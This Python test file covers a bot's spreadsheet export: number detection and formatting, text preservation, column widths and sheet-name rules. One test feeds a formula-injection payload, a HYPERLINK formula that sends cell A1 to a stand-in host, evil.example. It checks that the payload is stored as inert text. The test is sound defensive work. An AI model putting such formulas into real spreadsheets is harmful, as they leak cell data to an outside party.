"""Spreadsheets: numbers calculate where nothing of them is lost, and nothing else does."""

from __future__ import annotations

import io
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from feishu_bot.core.tables import Table
from feishu_bot.media.spreadsheets import write_spreadsheet


def written(*cells: str) -> bytes:
    return write_spreadsheet([("Table 1", Table(("head",), [(cell,) for cell in cells]))])


def read(data: bytes) -> list[object]:
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0)
    return [row[0] for row in sheet.to_python(skip_empty_area=False)][1:]


def parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


@pytest.mark.parametrize(
    ("cell", "value", "look"),
    [
        ("0", 0, "0"),
        ("-5", -5, "0"),
        ("−5", -5, "0"),
        ("1,200.50", 1200.5, "#,##0.00"),
        ("1.10", 1.1, "0.00"),
        ("12.5%", 0.125, "0.0%"),
        ("13800138000", 13800138000, "0"),
    ],
)
def test_a_number_calculates_and_looks_as_it_was_written(
    cell: str, value: float, look: str
) -> None:
    data = written(cell)

    assert read(data) == [value]
    # Those that every spreadsheet has by number aren't spelt out: 1, 2, 4 and 10.
    built_in = {"0": "1", "0.00": "2", "#,##0.00": "4", "0%": "9"}
    styles = parts(data)["xl/styles.xml"]
    assert f'formatCode="{look}"' in styles or f'numFmtId="{built_in[look]}"' in styles


@pytest.mark.parametrize(
    "cell",
    [
        "007", "110105199003071234", "6222021234567890123", "123456789.1234567", "1.2.3", "1e5",
        "12,34", "2026-11-01", "-0", "0.0.0", "１２", "٣", "1 200", "5-6", "$5", "NaN", "1.", ".5",
        "+86 10", "+5", "--1", "-", "true", "#N/A", "http://x.example", "_x0041_", "mailto:a@b.c",
    ],
)  # fmt: skip
def test_what_would_lose_something_as_a_number_stays_text(cell: str) -> None:
    assert read(written(cell)) == [cell]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", " =", "\t=", "＝"])
def test_nothing_that_a_model_writes_calculates(sign: str) -> None:
    data = written(f'{sign}HYPERLINK("http://evil.example?"&A1)')

    found = parts(data)
    assert "<f>" not in found["xl/worksheets/sheet1.xml"]
    assert "hyperlink" not in found["xl/worksheets/sheet1.xml"]
    # So it is no formula either when somebody edits the cell.
    assert 'quotePrefix="1"' in found["xl/styles.xml"]
    assert str(read(data)[0]).strip().startswith(sign.strip())


@settings(max_examples=15, deadline=None)
@given(st.lists(st.text(st.characters(codec=None), max_size=40), min_size=1, max_size=8))
def test_any_text_makes_a_file_that_opens_and_comes_back(cells: list[str]) -> None:
    found = read(written(*cells))

    assert len(found) == len(cells)
    for cell, value in zip(cells, found, strict=True):
        if isinstance(value, str) and cell.isprintable() and cell.isascii():
            assert value == cell


def test_widths_follow_the_words_and_the_head_stays_in_sight() -> None:
    sheet = parts(
        write_spreadsheet([("x", Table(("名称", "n"), [("一个比较长的中文名称", "1")]))])
    )["xl/worksheets/sheet1.xml"]

    assert 'width="22.' in sheet
    assert 'state="frozen"' in sheet


def test_names_of_sheets_are_ones_that_a_spreadsheet_takes() -> None:
    data = write_spreadsheet([(f"a[b]:*?/\\'{'x' * 40}", Table(("a",), []))])

    (name,) = CalamineWorkbook.from_filelike(io.BytesIO(data)).sheet_names
    assert len(name) == 31
    assert not set(name) & set("[]:*?/\\'")
